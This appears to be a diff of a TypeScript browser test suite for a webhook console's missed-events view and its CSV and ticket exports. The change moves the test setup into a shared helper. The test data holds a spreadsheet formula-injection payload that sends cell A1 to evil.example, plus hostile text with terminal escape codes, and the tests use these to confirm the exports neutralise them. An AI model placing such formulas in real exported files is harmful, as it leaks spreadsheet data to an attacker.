@@ -4,54 +4,30 @@
  * file for a ticket, with hostile texts in them.
  */
 import { readFile } from 'node:fs/promises';
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
-import { findBrowser, openBrowser } from '../../scripts/browser.ts';
+import type { Page } from 'playwright-core';
+import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { eventually } from '../support/eventually.ts';
-import { faultsOf, type Opened, openPage } from './support/console-browser.ts';
-import { type ConsoleService, HOSTILE, startConsoleService } from './support/console-service.ts';
+import { faultsOf } from './support/console-browser.ts';
+import { HOSTILE } from './support/console-service.ts';
+import { consoleSuite, FLOW_MAX_MS, HAS_BROWSER, SCREENS, WAIT_MAX_MS } from './support/console-suite.ts';
 import { parsedCsv } from './support/parsed-csv.ts';
 
-const path = findBrowser();
-/** These say when a browser hangs on a busy machine, not how fast it is. */
-const START_MAX_MS = 120_000;
-const FLOW_MAX_MS = 240_000;
-const WAIT_MAX_MS = 60_000;
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
 /** Three endpoints get each of these events, and a page has 100 deliveries. */
 const MORE_THAN_A_PAGE = 40;
 /** Parts of a response that is sent slowly: a replay waits for its attempts. */
 const SLOW = Array.from({ length: 40 }, () => '.');
 
-let service: ConsoleService;
-let browser: Browser;
-beforeAll(async () => {
-  if (path === undefined) return;
-  service = await startConsoleService();
-  browser = await openBrowser(path);
-}, START_MAX_MS);
-afterAll(async () => {
-  await browser?.close();
-  await service?.stop();
-});
+const suite = consoleSuite();
 
-async function signedIn(options: Parameters<typeof openPage>[2], link = {}): Promise<Opened> {
-  const opened = await openPage(browser, service.hookrail.apiUrl, options);
-  opened.context.setDefaultTimeout(WAIT_MAX_MS);
-  await opened.page.goto(await service.link(link));
-  await opened.page.getByRole('button', { name: 'Open' }).click();
-  await opened.page.getByRole('heading', { name: 'Live' }).waitFor();
-  return opened;
-}
-
-const send = (event: string) => service.sim('trigger', event, '--wait', '0s');
-const atShop = () => service.receiver.arrivals.filter((arrival) => arrival.path === '/shop');
+const send = (event: string) => suite.service.sim('trigger', event, '--wait', '0s');
+const atShop = () => suite.service.receiver.arrivals.filter((arrival) => arrival.path === '/shop');
 const statusOfShop = async () =>
-  ((await service.sim('endpoints', 'get', service.endpoints.shop)) as { status: string }).status;
+  ((await suite.service.sim('endpoints', 'get', suite.service.endpoints.shop)) as { status: string }).status;
 
 /** One event is refused, which disables the endpoint; two more come while it is disabled. */
 async function loseThree(): Promise<void> {
-  service.receiver.answerAt('/shop', { status: 410, body: '' });
+  suite.service.receiver.answerAt('/shop', { status: 410, body: '' });
   await send('KYC/FULL_USER');
   await eventually('it is disabled', async () => (await statusOfShop()) === 'auto_disabled', WAIT_MAX_MS);
   await send('fiatToCrypto/PENDING');
@@ -65,9 +41,9 @@ async function saved(page: Page, button: string) {
   return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
 }
 
-describe.skipIf(path === undefined)('Missed', { timeout: FLOW_MAX_MS }, () => {
+describe.skipIf(!HAS_BROWSER)('Missed', { timeout: FLOW_MAX_MS }, () => {
   test('says that nothing was missed, and since when', async () => {
-    const { page, faults, context } = await signedIn({});
+    const { page, faults, context } = await suite.signedIn({});
     await page.getByRole('link', { name: 'Missed', exact: true }).click();
     await page.getByText(/^Nothing was missed since .*\d\d:\d\d\.$/).waitFor();
     await page.getByText('This endpoint missed nothing in the window.').waitFor();
@@ -76,17 +52,17 @@ describe.skipIf(path === undefined)('Missed', { timeout: FLOW_MAX_MS }, () => {
     await context.close();
   });
 
-  const screens = [1280, 390].flatMap((width) =>
-    (['light', 'dark'] as const).map((colorScheme) => [width, colorScheme] as const),
-  );
-  describe.each(screens)('on a screen of %i pixels, %s', (width, colorScheme) => {
+  describe.each(SCREENS)('on a screen of %i pixels, %s', (width, colorScheme) => {
     beforeEach(async () => {
       await loseThree();
-      await service.sim('clock', 'advance', '1h');
+      await suite.service.sim('clock', 'advance', '1h');
     }, FLOW_MAX_MS);
 
     test('shows what was lost last night, and brings it back', async () => {
-      const { page, faults, context } = await signedIn({ viewport: { width, height: 800 }, colorScheme });
+      const { page, faults, context } = await suite.signedIn({
+        viewport: { width, height: 800 },
+        colorScheme,
+      });
       await page.getByRole('link', { name: 'Missed', exact: true }).click();
       const lane = page.locator('.lanes li.chosen');
       await lane.getByText('3 still missing').waitFor();
@@ -98,7 +74,7 @@ describe.skipIf(path === undefined)('Missed', { timeout: FLOW_MAX_MS }, () => {
       await page.getByText('Its last failure was endpoint_gone: mend your server first.').waitFor();
       expect(await faultsOf(page)).toEqual([]);
 
-      service.receiver.answerAt('/shop', { status: 200, body: SLOW });
+      suite.service.receiver.answerAt('/shop', { status: 200, body: SLOW });
       const before = atShop().length;
       await page.getByRole('button', { name: 'Enable the endpoint, and bring these 3 back' }).click();
       await page.getByRole('progressbar', { name: 'Events sent' }).waitFor();
@@ -129,7 +105,7 @@ describe.skipIf(path === undefined)('Missed', { timeout: FLOW_MAX_MS }, () => {
 
   test('counts the range that the fields and the sliders choose, which the address keeps', async () => {
     await loseThree();
-    const { page, faults, context } = await signedIn({});
+    const { page, faults, context } = await suite.signedIn({});
     await page.getByRole('link', { name: 'Missed', exact: true }).click();
     await page.getByText('3 events of this range are missing.').waitFor();
     const field = page.getByLabel('To', { exact: true });
@@ -150,7 +126,7 @@ describe.skipIf(path === undefined)('Missed', { timeout: FLOW_MAX_MS }, () => {
   });
 
   test('lets a session that only looks see the gap, and says why it brings nothing back', async () => {
-    const { page, faults, context } = await signedIn({}, { access: 'read' });
+    const { page, faults, context } = await suite.signedIn({}, { access: 'read' });
     await page.getByRole('link', { name: 'Missed', exact: true }).click();
     await page
       .locator('.lanes')
@@ -163,18 +139,18 @@ describe.skipIf(path === undefined)('Missed', { timeout: FLOW_MAX_MS }, () => {
   });
 });
 
-describe.skipIf(path === undefined)('a file', { timeout: FLOW_MAX_MS }, () => {
+describe.skipIf(!HAS_BROWSER)('a file', { timeout: FLOW_MAX_MS }, () => {
   let formula: string;
   beforeAll(async () => {
-    const line = ['--url', `${service.receiver.url}/formula`, '--description', FORMULA];
-    service.receiver.answerAt('/formula', { status: 500, body: `\`\`\`\n# ${HOSTILE}\u001b[2J` });
-    formula = ((await service.sim('endpoints', 'create', ...line)) as { uuid: string }).uuid;
+    const line = ['--url', `${suite.service.receiver.url}/formula`, '--description', FORMULA];
+    suite.service.receiver.answerAt('/formula', { status: 500, body: `\`\`\`\n# ${HOSTILE}\u001b[2J` });
+    formula = ((await suite.service.sim('endpoints', 'create', ...line)) as { uuid: string }).uuid;
     await send('KYC/FULL_USER');
     await send('KYB/ACTIVE');
-  }, START_MAX_MS);
+  }, FLOW_MAX_MS);
 
   test('of a list has all its rows by the filters, and no formula of a stranger', async () => {
-    const { page, faults, context } = await signedIn({ acceptDownloads: true });
+    const { page, faults, context } = await suite.signedIn({ acceptDownloads: true });
     await page.getByLabel('Endpoint').selectOption(formula);
     await page.getByLabel('Failed only').check();
     await eventually(
@@ -198,7 +174,7 @@ describe.skipIf(path === undefined)('a file', { timeout: FLOW_MAX_MS }, () => {
 
   test('of all that happened has the pages behind the first, and what was not sent', async () => {
     for (let sent = 0; sent < MORE_THAN_A_PAGE; sent += 1) await send('cryptoToFiat/PENDING');
-    const { page, faults, context } = await signedIn({ acceptDownloads: true });
+    const { page, faults, context } = await suite.signedIn({ acceptDownloads: true });
     const [names = [], ...rows] = parsedCsv((await saved(page, 'CSV')).text, ',');
     const results = new Set(rows.map((row) => row[names.indexOf('result')]));
     const isListed = (row: readonly string[]) =>
@@ -211,7 +187,7 @@ describe.skipIf(path === undefined)('a file', { timeout: FLOW_MAX_MS }, () => {
   });
 
   test('of a delivery for a ticket has what was sent and answered, without the secret, and one of a story its rows', async () => {
-    const { page, faults, context } = await signedIn({ acceptDownloads: true });
+    const { page, faults, context } = await suite.signedIn({ acceptDownloads: true });
     await page.getByLabel('Endpoint').selectOption(formula);
     await page.getByLabel('Type').selectOption('KYC');
     await page.getByLabel('Failed only').check();
@@ -220,7 +196,7 @@ describe.skipIf(path === undefined)('a file', { timeout: FLOW_MAX_MS }, () => {
     const { name, text } = await saved(page, 'Save for a ticket');
     expect(name).toMatch(/^delivery_[0-9a-f-]{36}_\d{8}t\d{6}z\.md$/);
     expect(text).toContain('# Webhook KYC/FULL_USER: failed');
-    expect(text).toContain(`${service.receiver.url}/formula`);
+    expect(text).toContain(`${suite.service.receiver.url}/formula`);
     expect(text).toContain('webhook-signature: v1,');
     expect(text).toContain(HOSTILE.replace('\u202e', String.raw`\u202e`));
     expect(text).not.toMatch(/authorization|whsec_/i);
@@ -230,7 +206,7 @@ describe.skipIf(path === undefined)('a file', { timeout: FLOW_MAX_MS }, () => {
     await page.locator('.story').waitFor();
     const [names = [], ...rows] = parsedCsv((await saved(page, 'CSV')).text, ',');
     const endpoints = rows.map((row) => row[names.indexOf('endpoint_uuid')]);
-    expect(endpoints.sort()).toEqual([formula, ...Object.values(service.endpoints)].sort());
+    expect(endpoints.sort()).toEqual([formula, ...Object.values(suite.service.endpoints)].sort());
     expect(faults).toEqual([]);
     await context.close();
   });
